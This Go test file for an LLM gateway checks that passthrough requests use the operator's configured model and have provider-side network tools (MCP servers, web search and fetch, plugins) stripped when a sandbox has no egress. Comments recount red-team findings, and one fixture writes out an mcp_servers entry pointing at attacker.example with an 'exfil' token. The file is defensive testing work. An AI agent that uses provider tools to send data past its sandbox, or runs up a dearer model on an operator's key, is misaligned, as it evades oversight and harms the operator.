package gateway

import (
	"encoding/json"
	"io"
	"net/http"
	"net/http/httptest"
	"reflect"
	"slices"
	"sync"
	"testing"

	"github.com/harnessd/harnessd/testharness/fakellm"
)

// passthroughTo starts a fake provider and a passthrough gateway of
// dialect d in front of it with opts' model and provider-network setting.
func passthroughTo(t *testing.T, d Dialect, model string, network bool) (*fakellm.Server, *testGateway) {
	t.Helper()
	provider := fakellm.New(fakellm.Options{})
	if _, err := provider.Start(""); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { provider.Close() })
	gw := startGateway(t, "", Options{ProviderNetwork: network,
		Upstream: Upstream{Kind: UpstreamPassthrough, URL: provider.URL(), Dialect: d, Model: model}})
	return provider, gw
}

// TestPassthroughSendsTheConfiguredModel: with harness.model.name set, a
// passthrough sends that model, whatever the agent names, as it does to an
// engine: a red team's harness asked for another (dearer) model with the
// operator's key. A second "model" member, which a provider might read
// instead, goes too; Gemini's model is in its path. The control: without
// a configured model the agent's own goes.
func TestPassthroughSendsTheConfiguredModel(t *testing.T) {
	for _, c := range []struct {
		name, configured, want string
	}{{"configured", "claude-haiku-cheap", "claude-haiku-cheap"}, {"control: none configured", "", "claude-opus-expensive"}} {
		t.Run(c.name, func(t *testing.T) {
			provider, gw := passthroughTo(t, DialectAnthropic, c.configured, false)
			body := `{"model":"claude-opus-expensive","max_tokens":100,"messages":[{"role":"user","content":"hi"}],"model":"claude-opus-expensive"}`
			status, out := gw.post(t, "/v1/messages", gw.anthropicHeaders(), json.RawMessage(body))
			if status != 200 {
				t.Fatalf("status %d: %s", status, out)
			}
			if es := provider.Requests(); len(es) != 1 || es[0].Model != c.want {
				t.Fatalf("the provider got %+v, want model %q", es, c.want)
			}
		})
	}
	provider, gw := passthroughTo(t, DialectGemini, "gemini-cheap", false)
	body := map[string]any{"contents": []any{map[string]any{"role": "user", "parts": []any{map[string]any{"text": "hi"}}}}}
	if status, out := gw.post(t, "/v1beta/models/gemini-ultra:generateContent?key="+gw.Key(), nil, body); status != 200 {
		t.Fatalf("gemini: status %d: %s", status, out)
	}
	if es := provider.Requests(); len(es) != 1 || es[0].Path != "/v1beta/models/gemini-cheap:generateContent" {
		t.Fatalf("gemini: the provider got %+v", es)
	}
}

// capturingUpstream is a provider that keeps each request's path and body
// and answers 200 with a small JSON body.
func capturingUpstream(t *testing.T) (url string, got func() (paths []string, bodies []string)) {
	t.Helper()
	var mu sync.Mutex
	var paths, bodies []string
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		b, _ := io.ReadAll(r.Body)
		mu.Lock()
		paths, bodies = append(paths, r.URL.Path), append(bodies, string(b))
		mu.Unlock()
		w.Header().Set("Content-Type", "application/json")
		w.Write([]byte(`{"id":"x","usage":{"input_tokens":1,"output_tokens":1}}`))
	}))
	t.Cleanup(srv.Close)
	return srv.URL, func() ([]string, []string) {
		mu.Lock()
		defer mu.Unlock()
		return slices.Clone(paths), slices.Clone(bodies)
	}
}

// TestPassthroughLeavesOutProviderNetworkTools: a sandboxed harness without
// egress may not have the provider reach the network for it, which the
// provider's own tools do with the operator's key: Anthropic's
// mcp_servers (a red team's went to an attacker's URL with data in its
// token), web search and fetch; a Responses web search or remote MCP
// tool; Chat Completions' web_search_options and tools of types it does
// not define (an aggregator's web search); Gemini's Google Search and URL
// context; OpenRouter's plugins and xAI's search_parameters. They are left out of the request, the rest of it goes as
// sent: agents offer such tools in every request (Codex's web_search
// with external_web_access false), and refusing the request stopped them
// (a first version of this refused it, and Codex never got an answer).
// The control: with ProviderNetwork (egress host, process isolation) the
// body reaches the provider as it was sent.
func TestPassthroughLeavesOutProviderNetworkTools(t *testing.T) {
	msgs := `"messages":[{"role":"user","content":"hi"}]`
	cases := []struct {
		dialect          Dialect
		path, body, want string
	}{
		{DialectAnthropic, "/v1/messages", `{"model":"c","max_tokens":10,` + msgs + `,"mcp_servers":[{"type":"url","url":"https://attacker.example/mcp","name":"x","authorization_token":"exfil"}]}`,
			`{"model":"c","max_tokens":10,` + msgs + `}`},
		{DialectAnthropic, "/v1/messages", `{"model":"c",` + msgs + `,"tools":[{"name":"f","input_schema":{"type":"object","required":["a"]}},{"type":"web_search_20250305","name":"web_search"},{"type":"web_fetch_20250910","name":"web_fetch"}]}`,
			`{"model":"c",` + msgs + `,"tools":[{"name":"f","input_schema":{"type":"object","required":["a"]}}]}`},
		{DialectAnthropic, "/v1/messages", `{"model":"c",` + msgs + `,"mcp_servers":[{"url":"https://a.example"}],"MCP_SERVERS":[{"url":"https://b.example"}]}`,
			`{"model":"c",` + msgs + `}`},
		{DialectAnthropic, "/v1/messages", `{"model":"c",` + msgs + `,"tools":[{"type":"web_search_20250305","name":"web_search","Type":"custom"}]}`,
			`{"model":"c",` + msgs + `,"tools":[]}`},
		{DialectResponses, "/v1/responses", `{"model":"g","input":"hi","tools":[{"type":"function","name":"shell"},{"type":"web_search","external_web_access":false},{"type":"mcp","server_url":"https://a.example","server_label":"x"}]}`,
			`{"model":"g","input":"hi","tools":[{"type":"function","name":"shell"}]}`},
		{DialectChat, "/v1/chat/completions", `{"model":"g",` + msgs + `,"web_search_options":{}}`, `{"model":"g",` + msgs + `}`},
		{DialectChat, "/v1/chat/completions", `{"model":"g",` + msgs + `,"tools":[{"type":"function","function":{"name":"f"}},{"type":"openrouter:web_search"},{"type":"custom","custom":{"name":"g"}}],"plugins":[{"id":"web"}],"search_parameters":{"mode":"on"}}`,
			`{"model":"g",` + msgs + `,"tools":[{"type":"function","function":{"name":"f"}},{"type":"custom","custom":{"name":"g"}}]}`},
		{DialectGemini, "/v1beta/models/g:generateContent", `{"contents":[{"role":"user","parts":[{"text":"hi"}]}],"tools":[{"google_search":{}},{"functionDeclarations":[{"name":"f"}],"urlContext":{}}]}`,
			`{"contents":[{"role":"user","parts":[{"text":"hi"}]}],"tools":[{"functionDeclarations":[{"name":"f"}]}]}`},
	}
	for _, c := range cases {
		for _, network := range []bool{false, true} {
			url, got := capturingUpstream(t)
			gw := startGateway(t, "", Options{ProviderNetwork: network, Upstream: Upstream{Kind: UpstreamPassthrough, URL: url, Dialect: c.dialect}})
			path, headers := c.path, map[string]string(nil)
			switch c.dialect {
			case DialectAnthropic:
				headers = gw.anthropicHeaders()
			case DialectGemini:
				path += "?key=" + gw.Key()
			default:
				headers = gw.bearer()
			}
			status, out := gw.post(t, path, headers, json.RawMessage(c.body))
			_, bodies := got()
			want := c.want
			if network {
				want = c.body
			}
			if status != 200 || len(bodies) != 1 || !jsonEqual(bodies[0], want) {
				t.Errorf("%s, ProviderNetwork %v: status %d (%s), the provider got %q, want %s", c.dialect, network, status, out, bodies, want)
			}
		}
	}
}

// jsonEqual says whether a and b are the same JSON value.
func jsonEqual(a, b string) bool {
	var x, y any
	return json.Unmarshal([]byte(a), &x) == nil && json.Unmarshal([]byte(b), &y) == nil && reflect.DeepEqual(x, y)
}

// withModel drops every "model" member (any letter case), keeps the
// rest, and puts the configured one first.
func TestWithModel(t *testing.T) {
	for in, want := range map[string]string{
		`{"model":"a","x":1,"Model":"b"}`:  `{"model":"m","x":1}`,
		`{ "x" : [1,2] }`:                  `{"model":"m","x":[1,2]}`,
		`{"model":"a"}`:                    `{"model":"m"}`,
		`{}`:                               `{"model":"m"}`,
		`{"mo\u0064el":"a","x":{"y":"}"}}`: `{"model":"m","x":{"y":"}"}}`,
	} {
		ms, err := members([]byte(in))
		if got := string(object(withModel(ms, "m"))); err != nil || got != want {
			t.Errorf("withModel(%s) = %s, %v; want %s", in, got, err, want)
		}
	}
}
